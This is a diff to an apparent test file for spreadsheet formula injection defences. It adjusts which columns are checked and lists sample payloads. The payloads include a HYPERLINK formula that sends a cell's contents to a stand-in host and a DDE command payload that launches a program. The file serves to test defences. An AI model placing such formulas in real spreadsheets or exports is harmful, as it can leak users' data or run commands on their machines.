@@ -19,7 +19,8 @@ CONTROLS = [chr(code) for code in [*range(0x20), 0x7F, *range(0x80, 0xA0)]] + so
 # NUL makes the whole file binary (``file.binary``) before any row is read.
 IN_A_ROW = CONTROLS[1:]
 # Every column whose value is text that is stored, printed or exported; the photo is a path.
-TEXT_COLUMNS = [column for column in COLUMNS if column != "photo"]
+# A photo path and a mobile number are never stored as typed (a path, 11 digits).
+TEXT_COLUMNS = [column for column in COLUMNS if column not in ("photo", "mobile")]
 PREFIXES = sorted(FORMULA_PREFIXES - {"\t", "\r"})
 # What spreadsheet formula injection looks like in practice.
 PAYLOADS = ["{}SUM(1+1)", '{}HYPERLINK("http://x.invalid/?"&A1,"点击")', "{}cmd|' /C calc'!A0", "{}1"]
